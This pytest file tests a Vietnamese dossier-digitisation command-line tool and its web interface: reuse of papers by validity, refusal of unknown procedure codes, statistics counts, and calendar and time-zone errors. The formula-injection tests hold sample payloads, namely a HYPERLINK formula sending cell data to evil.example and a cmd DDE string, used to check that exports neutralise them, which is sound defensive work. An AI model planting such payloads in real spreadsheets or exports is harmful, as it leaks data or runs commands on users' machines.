"""Issue 14, the dossier area: reuse of papers of unknown validity (4), unknown procedure codes
(7), components in the statistics (8), formula injection in the exports and the station's
officer (16), periods outside the calendar (21) and an unknown time zone (22).

Everything runs on real catalogue files, through the real `hoso` command (a subprocess, as an
operator runs it) and, for the web parts, the real `hoso serve` driven by Chromium.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from PIL import Image

from access.models import Actor
from access.officers import add_officer, set_officer
from catalogue.schema import files
from dossier.events import VALIDITY_CONFIRMED, Store, load_events
from dossier.export import to_json
from dossier.procedures import load_procedures
from dossier.report import catalogue_report
from pipeline.manifest import read_manifest
from tests.catalogue_history import VN, doc, ingest, vn
from tests.web_harness import ROOT, free_port, serve, sign_in

A = "001203004567"
OFFICER, SUPERVISOR, PASSWORD = "Lan", "Giám sát", "mat-khau-giam-sat-1"
EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Xem")'


def hoso(*args: str, env: dict | None = None, data: Path | None = None) -> subprocess.CompletedProcess:
    """The real command, as an operator types it."""
    full = {**os.environ, "OMP_THREAD_LIMIT": "1", **(env or {})}
    full.pop("HOSO_OFFICER", None)
    if "HOSO_TIMEZONE" not in (env or {}):
        full.pop("HOSO_TIMEZONE", None)
    extra = ["--data-dir", str(data)] if data is not None else []
    return subprocess.run([sys.executable, "-m", "cli", *args, *extra], env=full, capture_output=True, text=True,
                          timeout=300, cwd=ROOT)


def _no_traceback(done: subprocess.CompletedProcess) -> None:
    assert "Traceback" not in done.stdout + done.stderr, done.stderr[-2000:]


def _officers(catalogue: Path) -> None:
    add_officer(catalogue, OFFICER, "officer", None, Actor.cli(None))
    add_officer(catalogue, SUPERVISOR, "supervisor", PASSWORD, Actor.cli(None))


def _scan_png(path: Path) -> Path:
    Image.new("L", (200, 100), 255).save(path)
    return path


# --- 4: papers of unknown validity, expired papers, and reuses later found expired --------------

CONFIRMATION_TEXT = ("GIẤY XÁC NHẬN TÌNH TRẠNG HÔN NHÂN\nHoàng Đình Đạt hiện tại chưa đăng ký kết hôn với ai.\n"
                     "Giấy này có giá trị 6 tháng kể từ ngày cấp.\nTứ Kỳ, ngày 13 tháng 2 năm 2026")


@pytest.fixture
def papers(tmp_path):
    """Citizen A: a valid ID card; a marital-status confirmation of Feb 2026 scanned 40 days ago
    whose issue date was not read (unknown); the same kind of paper whose issue date was read."""
    today = datetime.now(VN).replace(hour=9, minute=0, second=0, microsecond=0)
    catalogue = tmp_path / "catalogue.sqlite"
    ingest(catalogue,
           doc("cccd_ok", "cccd", A, today - timedelta(days=300), text="CĂN CƯỚC CÔNG DÂN\nCó giá trị đến: 15/08/2035"),
           doc("xn_unknown", "xac_nhan_tinh_trang_hon_nhan", A, today - timedelta(days=40), text=CONFIRMATION_TEXT),
           doc("xn_read", "xac_nhan_tinh_trang_hon_nhan", A, today - timedelta(days=41),
               text=CONFIRMATION_TEXT).model_copy(update={"issue_date": date(2026, 2, 13)}))
    _officers(catalogue)
    return tmp_path


def test_unknown_validity_is_listed_apart_and_its_reuse_asks_for_a_recorded_confirmation(papers):
    opened = hoso("dossier", "open", "--dossier", "HS-KH-1", "--citizen-id", A, "--procedure", "dang_ky_ket_hon",
                  "--officer", OFFICER, data=papers)
    assert opened.returncode == 0, opened.stderr
    out = opened.stdout
    valid_heading = out.index("đã có trong kho, KHÔNG yêu cầu nộp lại:")
    check_heading = out.index("chưa rõ hạn: cán bộ kiểm tra trên bản giấy trước khi tái sử dụng")
    expired_heading = out.index("trong kho nhưng đã hết hạn, không tái sử dụng được:")
    # the ID card is the only paper not asked for again; the confirmation whose dates are unknown
    # waits for the officer's check; the one issued 13/02/2026 (valid 6 months) is expired
    assert valid_heading < out.index("cccd_ok")
    xn_block = out[out.index("Giấy xác nhận tình trạng hôn nhân"):]
    assert "KHÔNG yêu cầu nộp lại" not in xn_block
    assert check_heading < out.index("xn_unknown") < expired_heading < out.index("xn_read")
    assert "chưa rõ hạn: cán bộ kiểm tra" in out

    as_json = json.loads(hoso("dossier", "show", "HS-KH-1", "--officer", OFFICER, "--json", data=papers).stdout)
    xn = next(c for c in as_json["components"] if c["key"] == "xac_nhan_hon_nhan")
    assert [(c["document_id"], c["validity"], c["needs_check"]) for c in xn["candidates"]] == [
        ("xn_unknown", "unknown", True), ("xn_read", "expired", False)]
    assert xn["candidates"][1]["valid_until"] == "2026-08-13"

    refused = hoso("dossier", "reuse", "--dossier", "HS-KH-1", "--document", "xn_unknown", "--officer", OFFICER,
                   data=papers)
    assert refused.returncode == 1 and "validity unknown" in refused.stderr and "--confirm-validity" in refused.stderr
    _no_traceback(refused)
    expired = hoso("dossier", "reuse", "--dossier", "HS-KH-1", "--document", "xn_read", "--officer", OFFICER,
                   "--confirm-validity", data=papers)
    assert expired.returncode == 1 and "is expired" in expired.stderr  # a confirmation never revives it
    assert [e.kind for e in load_events(papers / "catalogue.sqlite")] == ["dossier_opened"]  # refusals write nothing

    confirmed = hoso("dossier", "reuse", "--dossier", "HS-KH-1", "--document", "xn_unknown", "--officer", OFFICER,
                     "--confirm-validity", "--json", data=papers)
    assert confirmed.returncode == 0, confirmed.stderr
    event = json.loads(confirmed.stdout)["event"]
    assert (event["kind"], event["document_id"], event["officer"], event["note"]) == (
        "component_reused", "xn_unknown", OFFICER, VALIDITY_CONFIRMED)
    shown = hoso("dossier", "show", "HS-KH-1", "--officer", OFFICER, data=papers).stdout
    assert "chưa rõ hạn, cán bộ đã kiểm tra trên bản giấy" in shown
    assert "đã tái sử dụng giấy tờ hết hạn" not in shown


def test_a_reuse_recorded_before_a_date_correction_that_makes_the_paper_expired_is_flagged(papers):
    assert hoso("dossier", "open", "--dossier", "HS-KH-2", "--citizen-id", A, "--procedure", "dang_ky_ket_hon",
                "--officer", OFFICER, data=papers).returncode == 0
    assert hoso("dossier", "reuse", "--dossier", "HS-KH-2", "--document", "xn_unknown", "--officer", OFFICER,
                "--confirm-validity", data=papers).returncode == 0
    assert hoso("dossier", "reuse", "--dossier", "HS-KH-2", "--document", "cccd_ok", "--officer", OFFICER,
                data=papers).returncode == 0
    # the officer reads the paper again: issued 13/02/2026, valid 6 months, so expired at reuse
    dated = hoso("dossier", "dates", "xn_unknown", "--issued", "2026-02-13", "--officer", OFFICER, data=papers)
    assert dated.returncode == 0 and dated.stdout.startswith("xn_unknown: expired"), dated.stdout + dated.stderr

    text = hoso("dossier", "show", "HS-KH-2", "--officer", OFFICER, data=papers).stdout
    flagged = [line for line in text.splitlines() if "đã tái sử dụng giấy tờ hết hạn" in line]
    assert len(flagged) == 1 and "xn_unknown" in flagged[0] and "2026-08-13" in flagged[0]
    payload = json.loads(hoso("dossier", "show", "HS-KH-2", "--officer", OFFICER, "--json", data=papers).stdout)
    assert [(r["document_id"], r["component"], r["valid_until"]) for r in payload["expired_reuses"]] == [
        ("xn_unknown", "xac_nhan_hon_nhan", "2026-08-13")]


# --- 7: unknown procedure codes are refused everywhere -------------------------------------------

def test_unknown_procedure_codes_are_refused_with_the_list_of_codes(tmp_path):
    data = tmp_path / "data"
    scan = _scan_png(tmp_path / "giay-khai-sinh.png")
    known = sorted(load_procedures().procedures)
    runs = {
        "ingest": hoso("ingest", str(scan), "--procedure", "khai_sinh", data=data),
        "cover-sheet": hoso("cover-sheet", "--citizen-id", A, "--dossier", "HS-1", "--procedure", "khai_sinh",
                            str(tmp_path / "cover.pdf")),
        "dossier open": hoso("dossier", "open", "--dossier", "HS-1", "--citizen-id", A, "--procedure",
                             "khai_sinh", "--officer", OFFICER, data=data),
    }
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    runs["watch"] = hoso("watch", str(inbox), "--once", "--procedure", "khai_sinh", data=data)
    for name, done in runs.items():
        assert done.returncode == 2, (name, done.stdout, done.stderr)
        assert "unknown procedure 'khai_sinh'" in done.stderr and all(code in done.stderr for code in known), name
        _no_traceback(done)
    assert not (tmp_path / "cover.pdf").exists()
    assert not (data / "catalogue.sqlite").exists()  # nothing was ingested nor registered

    good = hoso("cover-sheet", "--citizen-id", A, "--dossier", "HS-1", "--procedure", "dang_ky_khai_sinh",
                str(tmp_path / "cover.pdf"))
    assert good.returncode == 0, good.stderr


def test_a_manifest_entry_with_an_unknown_procedure_is_refused_with_the_reason(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for name in ("a.pdf", "b.pdf"):
        (inbox / name).write_bytes(b"%PDF-1.4\n%%EOF\n")
    # the README's own example, once with the wrong code it used to show
    (inbox / "manifest.json").write_text(json.dumps([
        {"file": "a.pdf", "citizen_id": "001089012345", "dossier": "HS-2026-0002", "procedure": "khai_sinh"},
        {"file": "b.pdf", "citizen_id": "001089012345", "dossier": "HS-2026-0003", "procedure": "dang_ky_khai_sinh"},
    ]), encoding="utf-8")
    manifest = read_manifest(inbox / "manifest.json", inbox)
    assert list(manifest.entries) == [inbox / "b.pdf"]
    assert manifest.entries[inbox / "b.pdf"].procedure == "dang_ky_khai_sinh"
    [refusal] = manifest.refusals
    assert refusal.entry == "a.pdf" and refusal.target == inbox / "a.pdf"
    assert refusal.reason.startswith("unknown procedure 'khai_sinh'; known: ") and "dang_ky_khai_sinh" in refusal.reason


def test_a_dossier_first_seen_at_ingest_never_takes_an_unknown_procedure(tmp_path):
    # what a cover sheet printed before codes were checked still carries into ingest
    catalogue = tmp_path / "catalogue.sqlite"
    ingest(catalogue, doc("c_tk", "to_khai", A, vn(11, 10, 9), "HS-C-1", OFFICER, procedure="khai_sinh"))
    [opened, submitted] = load_events(catalogue)
    assert (opened.kind, opened.procedure, submitted.procedure) == ("dossier_opened", None, None)
    assert "unknown procedure 'khai_sinh' ignored" in opened.note
    _officers(catalogue)
    report = json.loads(hoso("stats", "--period", "2026-11", "--format", "json", "--officer", SUPERVISOR,
                             data=tmp_path).stdout)
    assert [r["key"] for r in report["by_procedure"]] == [None]
    assert report["totals"]["papers_other"] == 1  # no procedure: nothing is a component


def test_the_readme_manifest_example_names_a_known_procedure():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    example = next(line for line in readme.splitlines() if line.startswith('[{"file": "to khai.pdf"'))
    assert json.loads(example)[0]["procedure"] in load_procedures().procedures


# --- 8: only the procedure's components are counted as components --------------------------------

def _residence_history(catalogue) -> None:
    """A residence dossier handed in with an application form, a CCCD and a CMND besides its two
    components, and a birth registration with two ID cards where one is asked."""
    with Store(catalogue) as store:
        store.open("HS-TT-1", A, "dang_ky_thuong_tru", OFFICER, at=vn(11, 10, 9))
        store.open("HS-KS-1", A, "dang_ky_khai_sinh", OFFICER, at=vn(11, 11, 9))
    ingest(catalogue,
           doc("tt_tk", "to_khai", A, vn(11, 10, 9, 5), "HS-TT-1", OFFICER),
           doc("tt_gcn", "gcn_quyen_su_dung_dat", A, vn(11, 10, 9, 5), "HS-TT-1", OFFICER),
           doc("tt_don", "don_de_nghi", A, vn(11, 10, 9, 5), "HS-TT-1", OFFICER),
           doc("tt_cccd", "cccd", A, vn(11, 10, 9, 5), "HS-TT-1", OFFICER),
           doc("tt_cmnd", "cmnd", A, vn(11, 10, 9, 5), "HS-TT-1", OFFICER))
    ingest(catalogue,
           doc("ks_tk", "to_khai", A, vn(11, 11, 9, 5), "HS-KS-1", OFFICER),
           doc("ks_cccd1", "cccd", A, vn(11, 11, 9, 5), "HS-KS-1", OFFICER),
           doc("ks_cccd2", "cccd", A, vn(11, 11, 9, 6), "HS-KS-1", OFFICER))


@pytest.fixture(scope="module")
def residence(tmp_path_factory):
    """The residence history in a data folder with its officers (the commands below)."""
    root = tmp_path_factory.mktemp("residence")
    _officers(root / "catalogue.sqlite")
    _residence_history(root / "catalogue.sqlite")
    return root


# (submitted components, digitised components, other papers) per procedure, in November 2026
EXPECTED = {"dang_ky_thuong_tru": (2, 2, 3), "dang_ky_khai_sinh": (2, 2, 1)}


def test_stats_count_components_per_procedure_and_list_other_papers_apart(residence, tmp_path):
    def stats(*args):
        done = hoso("stats", "--period", "2026-11", "--officer", SUPERVISOR, *args, data=residence)
        assert done.returncode == 0, done.stderr
        return done

    report = json.loads(stats("--format", "json").stdout)
    totals = report["totals"]
    assert (totals["components_submitted"], totals["components_digitised"], totals["papers_other"]) == (4, 4, 4)
    assert totals["digitisation_rate"] == 1.0
    assert {r["key"]: (r["components_submitted"], r["components_digitised"], r["papers_other"])
            for r in report["by_procedure"]} == EXPECTED
    types = {r["key"]: (r["components_submitted"], r["papers_other"]) for r in report["by_document_type"]}
    assert types == {"cccd": (1, 2), "cmnd": (0, 1), "don_de_nghi": (0, 1), "gcn_quyen_su_dung_dat": (1, 0),
                     "to_khai": (2, 0)}

    rows = list(csv.DictReader(io.StringIO(stats("--format", "csv").stdout.lstrip("\ufeff"))))
    total = next(r for r in rows if r["section"] == "total")
    assert (total["components_submitted"], total["components_digitised"], total["papers_other"]) == ("4", "4", "4")
    assert {r["key"]: (int(r["components_submitted"]), int(r["components_digitised"]), int(r["papers_other"]))
            for r in rows if r["section"] == "procedure"} == EXPECTED

    out = tmp_path / "nov.xlsx"
    stats("--format", "xlsx", "--out", str(out))
    book = load_workbook(out)
    summary = dict(list(book["Tổng hợp"].iter_rows(values_only=True))[1:])
    assert summary["Thành phần công dân nộp"] == 4 and summary["Thành phần số hóa khi tiếp nhận"] == 4
    assert summary["Giấy tờ khác đã nộp (không phải thành phần của thủ tục)"] == 4
    header, *lines = list(book["Theo thủ tục"].iter_rows(values_only=True))
    table = {line[0]: dict(zip(header, line)) for line in lines}
    assert {code: (t["Thành phần công dân nộp"], t["Thành phần số hóa khi tiếp nhận"],
                   t["Giấy tờ khác đã nộp (không phải thành phần của thủ tục)"]) for code, t in table.items()} == EXPECTED

    text = stats().stdout
    assert "số hóa khi tiếp nhận 4/4: 100.0%" in text
    assert "giấy tờ khác đã nộp (không phải thành phần của thủ tục): 4" in text


def test_components_and_other_papers_are_counted_alike_on_postgresql(residence, province_url):
    _residence_history(province_url)
    at = datetime(2026, 12, 1, 3, tzinfo=VN)
    on_server = json.loads(to_json(catalogue_report(province_url, "2026-11", generated_at=at)))
    assert on_server == json.loads(to_json(catalogue_report(residence / "catalogue.sqlite", "2026-11", generated_at=at)))
    assert {r["key"]: (r["components_submitted"], r["components_digitised"], r["papers_other"])
            for r in on_server["by_procedure"]} == EXPECTED


def test_other_papers_are_shown_apart_on_the_dossier(residence):
    shown = json.loads(hoso("dossier", "show", "HS-TT-1", "--officer", OFFICER, "--json", data=residence).stdout)
    assert sorted(s["document_id"] for s in shown["other_submitted"]) == ["tt_cccd", "tt_cmnd", "tt_don"]
    assert all(s["missed_reuse_of"] is None for s in shown["other_submitted"])
    # a second ID card where the procedure asks for one is another paper too, as in the statistics
    shown = json.loads(hoso("dossier", "show", "HS-KS-1", "--officer", OFFICER, "--json", data=residence).stdout)
    card = next(c for c in shown["components"] if c["key"] == "giay_to_tuy_than")
    assert [s["document_id"] for s in card["submitted"]] == ["ks_cccd1"] and card["status"] == "satisfied"
    assert [s["document_id"] for s in shown["other_submitted"]] == ["ks_cccd2"]


# --- 16: formula injection; the station's officer -------------------------------------------------

@pytest.mark.parametrize("name", [EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"])
def test_exports_write_every_text_cell_as_text(tmp_path, name):
    catalogue = tmp_path / "catalogue.sqlite"
    _officers(catalogue)
    if name.isprintable():  # names are free text in the officer list; events keep what ingest was given
        add_officer(catalogue, name, "operator", None, Actor.cli(None))
    with Store(catalogue) as store:
        store.open("HS-F-1", A, "dang_ky_khai_sinh", name, at=vn(11, 10, 9))
    ingest(catalogue, doc("f_tk", "to_khai", A, vn(11, 10, 9, 5), "HS-F-1", name))

    out = tmp_path / "f.xlsx"
    done = hoso("stats", "--period", "2026-11", "--format", "xlsx", "--out", str(out), "--officer", SUPERVISOR,
                data=tmp_path)
    assert done.returncode == 0, done.stderr
    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    officers = [row[0] for row in book["Theo công chức"].iter_rows(min_row=2, values_only=True)]
    expected = sorted({"'" + n for n in (name, name.strip())})  # opening a dossier strips the officer's name
    assert sorted(officers) == expected

    done = hoso("stats", "--period", "2026-11", "--format", "csv", "--officer", SUPERVISOR, data=tmp_path)
    rows = list(csv.DictReader(io.StringIO(done.stdout.lstrip("\ufeff"))))
    assert sorted(r["name"] for r in rows if r["section"] == "officer") == expected
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for key, value in r.items()
                   if key in ("section", "key", "name"))


def test_ingest_and_watch_refuse_an_officer_not_on_the_list(tmp_path):
    data = tmp_path / "data"
    scan = _scan_png(tmp_path / "scan.png")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for args in (("ingest", str(scan)), ("watch", str(inbox), "--once")):
        done = hoso(*args, "--officer", EVIL, data=data)
        assert done.returncode == 2 and "unknown officer" in done.stderr and "hoso officers add" in done.stderr, args
        _no_traceback(done)
    assert not (data / "catalogue.sqlite").exists()

    _officers(data / "catalogue.sqlite")
    add_officer(data / "catalogue.sqlite", "Quét 1", "operator", None, Actor.cli(None))
    set_officer(data / "catalogue.sqlite", "Quét 1", Actor.cli(None), active=False)
    done = hoso("ingest", str(scan), "--officer", "Quét 1", data=data)
    assert done.returncode == 2 and "deactivated" in done.stderr and "--active" in done.stderr
    done = hoso("ingest", str(scan), "--officer", EVIL, data=data)
    assert done.returncode == 2 and "unknown officer" in done.stderr
    with Store(data / "catalogue.sqlite") as store, store.reading() as c:
        assert c.execute(sa.select(sa.func.count()).select_from(files)).scalar_one() == 0


# --- 21 and 22: periods outside the calendar, an unknown time zone ---------------------------------

def test_a_period_beyond_the_calendar_is_one_message_and_exit_2(residence, tmp_path):
    for period in ("2026-01-01..9999-12-31", "9999", "9999-12", "9999-W52", "0000-01-01..2026-01-01",
                   "1899-12-31..1900-01-02"):
        for fmt in ("text", "png"):
            done = hoso("stats", "--period", period, "--format", fmt, "--out", str(tmp_path / "x.png"),
                        "--officer", SUPERVISOR, data=residence)
            assert done.returncode == 2 and "Error:" in done.stderr, (period, done.stderr)
            _no_traceback(done)
    assert not (tmp_path / "x.png").exists()
    ok = hoso("stats", "--period", "2026-01-01..2199-12-31", "--format", "json", "--officer", SUPERVISOR,
              data=residence)
    assert ok.returncode == 0 and json.loads(ok.stdout)["totals"]["papers_other"] == 4


def test_an_unknown_time_zone_is_one_message_naming_the_variable(residence, tmp_path):
    bad = {"HOSO_TIMEZONE": "Mars/Base"}
    runs = [
        hoso("stats", "--period", "2026-12", "--officer", SUPERVISOR, env=bad, data=residence),
        hoso("search", "--citizen-id", A, "--officer", OFFICER, env=bad, data=residence),
        hoso("dossier", "show", "HS-TT-1", "--officer", OFFICER, env=bad, data=residence),
        hoso("serve", "--port", str(free_port()), env=bad, data=residence),
        hoso("ingest", str(_scan_png(tmp_path / "scan.png")), env=bad, data=tmp_path / "data"),
    ]
    for done in runs:
        assert done.returncode == 2, (done.args, done.stderr)
        assert "HOSO_TIMEZONE='Mars/Base' is not a known time zone" in done.stderr
        _no_traceback(done)
    assert not (tmp_path / "data" / "catalogue.sqlite").exists()  # stopped before any page was read


# --- the web: the stats route on a bad period; the reuse confirmation ------------------------------

@pytest.fixture
def served(papers):
    env = {"OMP_THREAD_LIMIT": "1", "HOSO_TIMEZONE": None}
    with serve(papers, env=env, no_traceback=True) as (base, _):
        yield base, papers


def _signed_in(browser, base):
    context = browser.new_context(viewport={"width": 1366, "height": 768}, locale="vi-VN")
    page = context.new_page()
    sign_in(page, base, SUPERVISOR, PASSWORD)
    assert page.url == base + "/"
    return context, page


def test_web_stats_on_a_period_beyond_the_calendar_answer_400_in_vietnamese(served, browser):
    base, _ = served
    context, page = _signed_in(browser, base)
    for path in ("/thong-ke", "/thong-ke/bieu-do.png", "/thong-ke/bao-cao.xlsx"):
        response = page.goto(f"{base}{path}?ky=2026-01-01..9999-12-31")
        assert response.status == 400, path
        body = page.inner_text("main") if page.locator("main").count() else page.content()
        assert "Kỳ báo cáo «2026-01-01..9999-12-31» không hợp lệ" in body, path
        assert "outside" not in body and "year" not in body, path
    context.close()


def test_web_reuse_of_unknown_validity_needs_the_checkbox_and_a_later_expiry_is_flagged(served, browser):
    base, data = served
    assert hoso("dossier", "open", "--dossier", "HS-W-1", "--citizen-id", A, "--procedure", "dang_ky_ket_hon",
                "--officer", OFFICER, data=data).returncode == 0
    context, page = _signed_in(browser, base)
    page.goto(f"{base}/ho-so/HS-W-1")
    xn = page.locator("li[data-component=xac_nhan_hon_nhan]")
    assert xn.locator("ul.candidates-unknown button.reuse[data-doc=xn_unknown]").count() == 1
    assert xn.locator("ul.candidates-expired button.reuse").count() == 0  # an expired paper has no button
    assert "Chưa rõ hạn: cán bộ kiểm tra" in xn.inner_text()

    page.click("button.reuse[data-doc=xn_unknown]")
    notes = page.inner_text("section.card")
    assert "Không tái sử dụng được: Chưa rõ hạn của giấy tờ xn_unknown" in notes
    assert [e.kind for e in load_events(data / "catalogue.sqlite")] == ["dossier_opened"]

    page.check("input[name=xac_nhan_han][data-doc=xn_unknown]")
    page.click("button.reuse[data-doc=xn_unknown]")
    assert "Đã tái sử dụng xn_unknown" in page.inner_text("p.note")
    reused = [e for e in load_events(data / "catalogue.sqlite") if e.kind == "component_reused"]
    assert [(e.document_id, e.officer, e.note) for e in reused] == [("xn_unknown", SUPERVISOR, VALIDITY_CONFIRMED)]
    assert page.locator("p.expired-reuse").count() == 0

    assert hoso("dossier", "dates", "xn_unknown", "--issued", "2026-02-13", "--officer", OFFICER,
                data=data).returncode == 0
    page.goto(f"{base}/ho-so/HS-W-1")
    alert = page.inner_text("p.expired-reuse[data-doc=xn_unknown]")
    assert "đã tái sử dụng giấy tờ hết hạn" in alert and "13/08/2026" in alert
    context.close()


def test_the_counter_text_names_a_badly_read_card_by_its_type():
    """Defect 11 on the command line: `dossier open/show` lists a candidate by its type's name
    when its OCR'd title is not one of the type's titles, keeping the read title as a detail."""
    from datetime import datetime, timezone

    from dossier.events import Candidate
    from dossier.present import _candidate

    def line(title):
        return _candidate(Candidate(document_id="d-1", doc_type="cccd", title=title,
                                    received_at=datetime(2026, 12, 3, tzinfo=timezone.utc), validity="valid",
                                    valid_until=None, basis="expiry date printed"))

    badly = line("CAN CƯỢC CONG DAN")
    assert "Căn cước công dân" in badly and "(tiêu đề đọc được: CAN CƯỢC CONG DAN)" in badly
    assert "tiêu đề đọc được" not in line("CĂN CƯỚC CÔNG DÂN")
